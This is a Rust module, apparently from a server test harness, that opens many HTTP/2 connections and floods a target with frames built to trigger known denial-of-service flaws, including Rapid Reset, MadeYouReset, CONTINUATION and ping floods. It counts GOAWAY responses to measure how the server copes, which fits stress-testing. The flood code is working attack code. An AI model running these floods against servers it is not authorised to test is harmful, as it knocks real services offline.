//! Clients that send HTTP/2 frames as fast as they can, in ways that cost the other end more than them.

use std::{
    collections::BTreeMap,
    fmt, io,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::Duration,
};

use parking_lot::Mutex;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use super::{
    rig::frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEAD_BYTES, HEADERS, PING, RST_STREAM, SETTINGS,
        WINDOW_UPDATE, field, frame, head, preface, request,
    },
    slowly::Paths,
};

/// What they send.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Flood {
    /// Requests for a hit, each reset at once (CVE-2023-44487)
    RapidReset,
    /// The same for keys that are in no memory
    ResetMisses,
    /// Requests that the other end has to reset (CVE-2025-8671)
    MadeYouReset,
    /// Settings (CVE-2019-9515)
    Settings,
    /// Pings (CVE-2019-9512)
    Ping,
    /// Pings whose answers are not read
    UnreadPing,
    /// A head that never ends (CVE-2024-27316)
    Continuation,
    /// The same, of empty frames
    EmptyContinuation,
    /// A body of empty frames (CVE-2019-9518)
    EmptyData,
}

/// What came of it.
#[derive(Debug, Default)]
pub struct Tally {
    frames: AtomicU64,
    connections: AtomicU64,
    pub ended: AtomicU64,
    /// Errors that were told (GOAWAY), by their codes.
    told: Mutex<BTreeMap<u32, u64>>,
}

impl fmt::Display for Tally {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let get = |count: &AtomicU64| count.load(Ordering::Relaxed);
        write!(
            f,
            "{} frames on {} connections, {} ended by the node, GOAWAY codes {:?}",
            get(&self.frames),
            get(&self.connections),
            get(&self.ended),
            self.told.lock()
        )
    }
}

/// Clients that flood until they are stopped, in a thread of their own.
#[derive(Debug)]
pub struct Flooders {
    pub tally: Arc<Tally>,
    stop: Arc<AtomicBool>,
    thread: JoinHandle<()>,
}

impl Flooders {
    pub fn start(flood: Flood, count: usize, address: SocketAddr, paths: &Paths) -> Self {
        let (tally, stop) = (Arc::new(Tally::default()), Arc::new(AtomicBool::new(false)));
        let (counted, stopped, paths) = (Arc::clone(&tally), Arc::clone(&stop), paths.clone());
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
            runtime.expect("a runtime").block_on(async move {
                let mut all = tokio::task::JoinSet::new();
                for _ in 0..count {
                    let (tally, stop, paths) = (Arc::clone(&counted), Arc::clone(&stopped), paths.clone());
                    all.spawn(async move {
                        while !stop.load(Ordering::Relaxed) {
                            tally.connections.fetch_add(1, Ordering::Relaxed);
                            // However it ended, the next begins.
                            let _ = one(flood, address, &paths, &tally, &stop).await;
                            tokio::task::yield_now().await;
                        }
                    });
                }
                while !stopped.load(Ordering::Relaxed) {
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
                all.shutdown().await;
            });
        });
        Self { tally, stop, thread }
    }

    pub fn stop(self) -> Arc<Tally> {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().expect("no panic");
        self.tally
    }
}

/// One connection, until the node ends it.
async fn one(
    flood: Flood,
    address: SocketAddr,
    paths: &Paths,
    tally: &Tally,
    stop: &AtomicBool,
) -> io::Result<()> {
    let stream = TcpStream::connect(address).await?;
    let (mut reader, mut writer) = stream.into_split();
    writer.write_all(&preface()).await?;
    let write = async {
        let (mut bytes, mut next, mut rounds) = (Vec::new(), 1, 0_u64);
        while !stop.load(Ordering::Relaxed) && next < u32::MAX / 4 {
            bytes.clear();
            let mut frames = 0;
            while bytes.len() < 16 << 10 {
                frames += append(flood, paths, &mut bytes, &mut next, rounds);
                rounds += 1;
            }
            writer.write_all(&bytes).await?;
            tally.frames.fetch_add(frames, Ordering::Relaxed);
        }
        Ok::<_, io::Error>(())
    };
    let read = async {
        if flood == Flood::UnreadPing {
            return std::future::pending::<io::Result<()>>().await;
        }
        let (mut start, mut payload) = ([0; HEAD_BYTES], Vec::new());
        loop {
            reader.read_exact(&mut start).await?;
            let (kind, length) = head(&start);
            payload.resize(length, 0);
            reader.read_exact(&mut payload).await?;
            if let (GOAWAY, Some(code)) = (kind, payload.get(4..8)) {
                let code = u32::from_be_bytes(code.try_into().expect("four bytes"));
                *tally.told.lock().entry(code).or_default() += 1;
            }
        }
    };
    let mut read = std::pin::pin!(read);
    let ended = tokio::select! {
        // What it says before it closes.
        ended = write => match ended {
            Err(_) => tokio::time::timeout(LAST_WORDS, &mut read).await.unwrap_or(Ok(())).and(ended),
            Ok(()) => Ok(()),
        },
        ended = &mut read => ended,
    };
    if ended.is_err() {
        tally.ended.fetch_add(1, Ordering::Relaxed);
    }
    ended
}

const LAST_WORDS: Duration = Duration::from_millis(50);

/// Appends what comes next; how many frames that is.
fn append(flood: Flood, paths: &Paths, out: &mut Vec<u8>, next: &mut u32, round: u64) -> u64 {
    const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
    let stream = *next;
    match flood {
        Flood::RapidReset | Flood::ResetMisses => {
            let miss = format!("{}{}", paths.hit, fastrand::u64(..));
            let path = if flood == Flood::RapidReset { &paths.hit } else { &miss };
            frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &request(false, path));
            frame(out, RST_STREAM, 0, stream, &CANCEL);
            *next += 2;
            2
        }
        Flood::MadeYouReset => {
            frame(out, HEADERS, END_HEADERS, stream, &request(true, &paths.posts[0]));
            // An increment of nothing is an error of the stream.
            frame(out, WINDOW_UPDATE, 0, stream, &[0; 4]);
            *next += 2;
            2
        }
        Flood::Settings => {
            // The initial window, again and again another.
            let value = 65_535 + u32::try_from(round % 1000).unwrap_or_default();
            let setting = [&4_u16.to_be_bytes()[..], &value.to_be_bytes()[..]].concat();
            frame(out, SETTINGS, 0, 0, &setting);
            1
        }
        Flood::Ping | Flood::UnreadPing => {
            frame(out, PING, 0, 0, &round.to_be_bytes());
            1
        }
        Flood::Continuation | Flood::EmptyContinuation => {
            if round == 0 {
                frame(out, HEADERS, 0, stream, &request(false, &paths.hit));
            }
            let mut fields = Vec::new();
            if flood == Flood::Continuation {
                for index in 0..20 {
                    field(&mut fields, &format!("x-{index}"), &"v".repeat(40));
                }
            }
            frame(out, CONTINUATION, 0, stream, &fields);
            1
        }
        Flood::EmptyData => {
            if round == 0 {
                frame(out, HEADERS, END_HEADERS, stream, &request(true, &paths.posts[0]));
            }
            frame(out, DATA, 0, stream, &[]);
            1
        }
    }
}
